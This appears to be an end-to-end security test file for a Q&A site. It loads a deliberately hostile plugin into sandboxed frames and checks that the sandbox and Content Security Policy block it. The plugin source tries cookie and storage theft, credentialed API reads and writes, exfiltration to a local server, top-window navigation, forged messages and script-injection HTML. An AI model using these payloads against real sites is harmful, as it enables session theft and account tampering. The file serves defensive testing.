import { createServer, type IncomingHttpHeaders, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished } from 'vitest'
import type { WatchedPage, Window } from '../browser.ts'
import { journey } from '../journey.ts'
import { arriveAt, fill, write } from '../page.ts'
import { admin, enter, register } from '../people.ts'
import { addPlugin } from '../plugins.ts'
import { ask } from '../posts.ts'
import { startProxy } from '../proxy.ts'
import type { Site, SiteOptions } from '../site.ts'

// A plugin whose parts for browsers go for whatever they could reach. What both other sides received is looked at there, not in the browser.

/** Whatever asks the site for this was made by the plugin. */
const MARK = 'tried'
const HUSH = 'hush-in-the-address'

/** Each is `reached` unless it throws; those of `silent` never say what came of them. */
const moduleFor = (site: string, elsewhere: string) => `
const SITE = ${JSON.stringify(site)}, ELSEWHERE = ${JSON.stringify(elsewhere)}
const at = (name, path = '/') => SITE + path + '?${MARK}=' + encodeURIComponent(name)
const there = (what) => { if (!what) throw new Error('not there') ; return what }
const heard = (target, good, bad) => new Promise((resolve, reject) => { target.addEventListener(good, resolve); target.addEventListener(bad, reject) })
const element = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes))
const form = (target) => { const made = element('form', { method: 'post', action: at('form ' + target, '/users/settings'), target }); made.submit(); made.requestSubmit() }

const tries = {
  cookie: () => document.cookie,
  'planted cookie': () => { document.cookie = 'askwell_session=planted; path=/' },
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => { const opened = indexedDB.open('x'); return heard(opened, 'success', 'error') },
  caches: () => caches.open('x'),
  'parent’s document': () => parent.document.body.append('taken'),
  'top’s document': () => top.document.cookie,
  'parent’s storage': () => parent.localStorage.length,
  'own frame': () => there(frameElement),
  'address of the page': () => parent.location.href,
  'new window': () => there(open(at('new window'))),
  'window elsewhere': () => there(open(ELSEWHERE + '/window')),
  'top to the site': () => { top.location.href = at('top') },
  'top to elsewhere': () => { top.location.replace(ELSEWHERE + '/top') },
  'read by the API': () => fetch(at('read', '/answer/api/v1/user/info'), { credentials: 'include' }),
  'write by the API': () => fetch(at('write', '/answer/api/v1/user/info'), { method: 'PUT', mode: 'no-cors', credentials: 'include', body: '{"display_name":"Taken"}' }),
  'read by XMLHttpRequest': () => { const asked = new XMLHttpRequest(); asked.open('GET', at('xhr', '/answer/api/v1/user/info')); asked.withCredentials = true; asked.send(); return heard(asked, 'load', 'error') },
  'fetch elsewhere': () => fetch(ELSEWHERE + '/fetch', { method: 'POST', mode: 'no-cors', body: 'a text' }),
  'socket elsewhere': () => heard(new WebSocket(ELSEWHERE.replace('http', 'ws') + '/socket'), 'open', 'error'),
  'events elsewhere': () => heard(new EventSource(ELSEWHERE + '/events'), 'open', 'error'),
  'module elsewhere': () => import(ELSEWHERE + '/module.js'),
  'script elsewhere': () => heard(element('script', { src: ELSEWHERE + '/script.js' }), 'load', 'error'),
  'picture elsewhere': () => heard(element('img', { alt: '', src: ELSEWHERE + '/picture.png' }), 'load', 'error'),
  'peers elsewhere': () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + ELSEWHERE.slice(7) }] }),
  'text as a script': () => (0, eval)('1'),
  worker: () => { const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return heard(made, 'message', 'error') },
  'service worker': () => there(navigator.serviceWorker).register('/service-worker.js'),
}
const silent = {
  'link over the page': () => element('a', { href: at('link over the page'), target: '_top' }).click(),
  'link in a window': () => element('a', { href: ELSEWHERE + '/link', target: '_blank' }).click(),
  download: () => element('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click(),
  'forms': () => { for (const target of ['_self', '_top', '_blank']) form(target) },
  beacon: () => { navigator.sendBeacon(at('beacon', '/answer/api/v1/user/info'), '{}'); navigator.sendBeacon(ELSEWHERE + '/beacon', 'x') },
  frames: () => { for (const src of [at('frame'), ELSEWHERE + '/frame']) element('iframe', { src, title: 'x' }) },
  'early connections': () => { for (const rel of ['preconnect', 'prefetch', 'preload', 'stylesheet']) element('link', { rel, as: 'fetch', href: ELSEWHERE + '/' + rel }) },
  styles: () => element('style', { textContent: '@import "' + ELSEWHERE + '/style.css"; body { background: url(' + ELSEWHERE + '/background) }' }),
}

const send = MessagePort.prototype.postMessage
const portOf = (kit) => {
  let port
  MessagePort.prototype.postMessage = function () { port = this }
  kit.insert('x')
  MessagePort.prototype.postMessage = send
  return port
}
const forged = [null, 7, 'x'.repeat(1_000_000), [], { height: -1 }, { height: 1e9 }, { height: 'x' }, { height: NaN }, { insert: ['x'] }, { insert: { length: 1 } },
  { captcha_code: 'solved' }, { ready: '<img src=x>' }, { failed: 0 }, { __proto__: { ready: true } }]

const PATIENCE = 3000
const attempt = (one) => new Promise((resolve) => {
  setTimeout(resolve, PATIENCE, false)
  Promise.resolve().then(one).then(() => resolve(true), () => resolve(false))
})

export const mount = async (part, kit) => {
  if (kit.data.text.trim() === 'leave for elsewhere') { location.href = ELSEWHERE + '/left'; return }
  if (kit.data.text.trim() === 'leave for the site') { location.href = at('left', '/users/settings'); return }
  for (const one of Object.values(silent)) try { one() } catch {}
  const names = Object.keys(tries)
  const came = await Promise.all(names.map((name) => attempt(tries[name])))
  const found = portOf(kit)
  for (const one of forged) {
    for (const other of [parent, top]) other.postMessage(one, '*')
    send.call(found, one)
  }
  const seen = [location.href, document.referrer, name, ...location.ancestorOrigins, JSON.stringify(history.state), JSON.stringify(kit), JSON.stringify(performance.getEntries())]
  const output = document.createElement('output')
  output.textContent = JSON.stringify({ tried: names.length, reached: names.filter((_, place) => came[place]), seen: seen.join(' ') })
  part.append(output)
  const button = (text, press) => { const made = document.createElement('button'); made.textContent = text; made.addEventListener('click', press); part.append(made) }
  if (!kit.data.button) return
  part.append(Object.assign(document.createElement('a'), { href: at('pressed link'), target: '_top', textContent: 'Over the page' }))
  button('In a window', () => { open(at('pressed window')) })
  button('By a form', () => { form('_top'); form('_self') })
  button('Page away', () => { try { top.location.href = at('pressed away') } catch {} })
  button('Too much', () => kit.insert('x'.repeat(65_536)))
  button('HTML', () => kit.insert('<img src=x onerror="document.title=\\'taken\\'"><script>document.title="taken"</script><a href="javascript:document.title=1">go</a>'))
}
`

const listen = async (hear: (asked: IncomingMessage) => void) => {
  const server = createServer((asked, answer) => {
    hear(asked)
    answer.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end()
  })
  server.on('upgrade', (asked, socket) => {
    hear(asked)
    socket.destroy()
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

const WORDS = { en_US: { name: 'Trap', description: 'Takes what it can.', button_trap: 'Trap' } }

/** A site behind something that notes what it is asked, and another server; the plugin is on. */
const ambush = async (start: (wish: SiteOptions) => Promise<Site>, change?: typeof withoutSandbox) => {
  const heard: { path: string; cookie: string; authorization: string }[] = []
  const elsewhere: string[] = []
  const front = await startProxy([], {
    hear({ url = '', headers: { cookie = '', authorization = '' } }) {
      if (url.includes(`${MARK}=`)) heard.push({ path: url, cookie, authorization })
    },
    ...(change && { change }),
  })
  onTestFinished(() => front.stop())
  const other = await listen(({ method, url }) => void elsewhere.push(`${method} ${url}`))
  const site = await start({ first: { site_url: front.url } })
  front.targets.push(site.url)
  const boss = await admin(site)
  await addPlugin(
    site,
    boss.token,
    {
      slug_name: 'trap',
      kinds: ['browser', 'editor'],
      module: 'part.js',
      draws: ['trap'],
      dialog: 'part.js',
      buttons: [{ name: 'trap', sign: '!' }],
      words: WORDS,
    },
    { 'part.js': moduleFor(front.url, other) },
  )
  return { site: { ...site, url: front.url }, boss, heard, elsewhere, other }
}

const SELF = String.raw`http://127\.0\.0\.1:\d+`
const FRAME = `${SELF}/plugin-frames/trap/[0-9a-f]{32}`
const BY_FRAME = String.raw`\(${FRAME}(/module\.js)?\)$`
const POLICY = 'violates the following Content Security Policy directive:'

/** What the browser itself says of what it has stopped, each of something that the plugin tries; whatever else goes wrong is noticed. */
const STOPPED = [
  String.raw`^console error: (Connecting to|Creating a worker from|Fetching content from|Loading the (image|script|stylesheet)) '\S+' ${POLICY} .* The action has been blocked\. ${BY_FRAME}`,
  String.raw`^console error: Fetch API cannot load \S+ Refused to connect because it violates the document's Content Security Policy\. ${BY_FRAME}`,
  String.raw`^console error: Blocked form submission to '${SELF}/users/settings\?${MARK}=form%20_(blank|self|top)' because the form's frame is sandboxed and the 'allow-forms' permission is not set\. ${BY_FRAME}`,
  String.raw`^console error: Blocked opening '\S+' in a new window because the request was made in a sandboxed frame whose 'allow-popups' permission is not set\. ${BY_FRAME}`,
  `^console error: Unsafe attempt to initiate navigation for frame with URL '${SELF}/questions/[^']+' from frame with URL '${FRAME}'. The frame attempting navigation of the top-level window is sandboxed, `,
  String.raw`^console error: Framing '${SELF}/' ${POLICY} "(default-src '(none|self)'|frame-ancestors 'none')"\. The request has been blocked\.\s`,
  String.raw`^console warning: Failed to execute 'postMessage' on 'DOMWindow': The target origin provided \('${SELF}'\) does not match the recipient window's origin \('null'\)\. \(\)$`,
  String.raw`^failed GET ${SELF}/answer/api/v1/user/info\?${MARK}=xhr: csp$`,
  String.raw`^failed GET ${SELF}/users/login\?from=%2Fusers%2Fsettings%3F${MARK}%3Dleft: net::ERR_BLOCKED_BY_RESPONSE$`,
].map((said) => new RegExp(said))

interface Told {
  tried: number
  reached: string[]
  seen: string
}
const toldIn = async (page: WatchedPage, frame: string) =>
  JSON.parse((await page.frameLocator(frame).locator('output').textContent())!) as Told
const expectNothing = ({ tried, reached, seen }: Told, token: string) => {
  expect(reached).toEqual([])
  expect(tried).toBeGreaterThan(25)
  for (const secret of [token, HUSH]) expect(seen).not.toContain(secret)
}

const NO_WORD = '; sandbox allow-scripts'
/** The frame as it would come without a word of a sandbox. */
const withoutSandbox = (headers: IncomingHttpHeaders) => {
  const policy = headers['content-security-policy']
  return { ...headers, ...(policy && { 'content-security-policy': String(policy).replace(NO_WORD, '') }) }
}

/** As it is, and with one of the two walls gone: each holds by itself. */
interface Wall {
  name: string
  weaken(page: WatchedPage): Promise<unknown>
  change?: typeof withoutSandbox
  /** What the page, and the policy of the frame, say of a sandbox then. */
  attribute: string | null
  isInPolicy: boolean
}
const WALLS: Wall[] = [
  { name: '', weaken: async () => {}, attribute: 'allow-scripts', isInPolicy: true },
  {
    name: ', also where the page hasn’t said that it is in a sandbox',
    weaken: (page) =>
      page.addInitScript(`{
        const { setAttribute } = Element.prototype
        Element.prototype.setAttribute = function (name, value) { if (name !== 'sandbox') setAttribute.call(this, name, value) }
      }`),
    attribute: null,
    isInPolicy: true,
  },
  {
    name: ', also where the frame hasn’t',
    weaken: async () => {},
    change: withoutSandbox,
    attribute: 'allow-scripts',
    isInPolicy: false,
  },
]
/** Whether this wall is the one that has been taken away, as the browser has it. */
const expectWall = async (page: WatchedPage, frame: string, { attribute, isInPolicy }: Wall) => {
  const shown = page.locator(frame)
  expect(await shown.getAttribute('sandbox')).toBe(attribute)
  const answer = await fetch(new URL((await shown.getAttribute('src'))!, page.url()))
  expect(String(answer.headers.get('content-security-policy')).includes(NO_WORD)).toBe(isInPolicy)
}

for (const wall of WALLS)
  journey(`what a plugin draws with reaches nothing of the reader’s${wall.name}`, async ({ start, open }) => {
    const { site, boss, heard, elsewhere, other } = await ambush(start, wall.change)
    const blocks = ['go', 'leave for elsewhere', 'leave for the site'].map((text) => `\`\`\`trap\n${text}\n\`\`\``)
    const question = await ask(site, await register(site, 'Ada'), {
      title: 'What does the trap catch?',
      content: blocks.join('\n\nand\n\n'),
    })
    const window: Window = { hosts: [new URL(other).host] }
    const page = await open(site, window)
    page.allow(...STOPPED)
    await wall.weaken(page)
    await enter(page, boss)
    const windows: string[] = []
    page.context().on('page', (opened) => windows.push(opened.url()))
    page.on('download', (download) => windows.push(download.suggestedFilename()))
    await page.goto(`/questions/${question.id}?token=${HUSH}`)
    const address = page.url()
    const frame = page.locator('.drawn-frame-ready').first()
    await frame.waitFor()
    await expectWall(page, '.drawn-frame-ready >> nth=0', wall)
    expectNothing(await toldIn(page, '.drawn-frame >> nth=0'), boss.token)
    await expect.poll(async () => (await frame.boundingBox())!.height).toBeLessThanOrEqual(20_000)

    // A frame may go elsewhere itself, as far as the policy of the page lets it: to the site, as a stranger.
    await expect.poll(() => heard.length).toBeGreaterThan(0)
    expect(heard).toEqual([{ path: `/users/settings?${MARK}=left`, cookie: '', authorization: '' }])
    expect(elsewhere).toEqual([])
    expect(windows).toEqual([])
    expect(page.url()).toBe(address)

    // The page goes on, and so does the session.
    const votes = page.getByRole('group', { name: 'Votes on this question' })
    await votes.getByRole('button', { name: 'Vote up' }).click()
    await expect.poll(() => votes.getByRole('status', { name: 'Score' }).textContent()).toBe('1')
    const { display_name } = await site.call<{ display_name: string }>('GET', '/answer/api/v1/user/info', boss)
    expect(display_name).toBe(boss.name)
    expect(await page.evaluate('document.body.textContent.includes("taken")')).toBe(false)
    expect(await page.evaluate('navigator.serviceWorker.getRegistrations().then(({ length }) => length)')).toBe(0)
  })

for (const wall of WALLS)
  journey(
    `what a plugin opens over the editor reaches nothing of the writer’s${wall.name}`,
    async ({ start, open }) => {
      const { site, boss, heard, elsewhere, other } = await ambush(start, wall.change)
      const page = await open(site, { hosts: [new URL(other).host] })
      page.allow(
        ...STOPPED,
        /^console error: editor button Trap: Error: .* gave a text that is longer than a post may be/,
      )
      await wall.weaken(page)
      await enter(page, boss)
      const windows: string[] = []
      page.context().on('page', (opened) => windows.push(opened.url()))
      page.on('download', (download) => windows.push(download.suggestedFilename()))
      await page.goto(`/questions/ask?token=${HUSH}`)
      await fill(page, { title: 'What does the trap catch here?' })
      await write(page, 'content', 'Before it. ')
      const address = page.url()
      const dialog = page.getByRole('dialog', { name: 'Trap' })
      const trap = dialog.frameLocator('iframe')
      const openTrap = async () => {
        await page.getByRole('button', { name: 'Trap', exact: true }).click()
        await trap.locator('output').waitFor()
      }
      await openTrap()
      await expectWall(page, 'dialog iframe', wall)
      expectNothing(await toldIn(page, 'dialog iframe'), boss.token)
      await trap.getByRole('link', { name: 'Over the page' }).click()
      for (const button of ['In a window', 'By a form', 'Page away'])
        await trap.getByRole('button', { name: button }).click()
      await trap.getByRole('button', { name: 'Too much' }).click()
      await page.getByRole('status').getByText('“Trap” didn’t work. Your text is as it was.').waitFor()
      expect(await page.locator('main [name=content]').inputValue()).toBe('Before it. ')
      expect([heard, elsewhere, windows, page.url()]).toEqual([[], [], [], address])

      await page.locator('.cm-content').press('Control+End')
      await openTrap()
      await trap.getByRole('button', { name: 'HTML' }).click()
      await dialog.waitFor({ state: 'detached' })
      await expect.poll(() => page.locator('main [name=content]').inputValue()).toContain('<script>')
      await page.locator('.editor').first().getByRole('radio', { name: 'Preview' }).check()
      await page.locator('.editor-preview').getByText('Before it.').waitFor()
      await page.getByRole('combobox', { name: 'Tags' }).fill('support')
      await page.getByRole('combobox', { name: 'Tags' }).press('Enter')
      await page.getByRole('button', { name: 'Post question' }).click()
      await arriveAt(page, 'What does the trap catch here?')
      expect(await page.locator('.question .prose').locator('script, [onerror], [href^=javascript]').count()).toBe(0)
      expect(await page.title()).not.toContain('taken')
      expect([heard, elsewhere, windows]).toEqual([[], [], []])
    },
  )
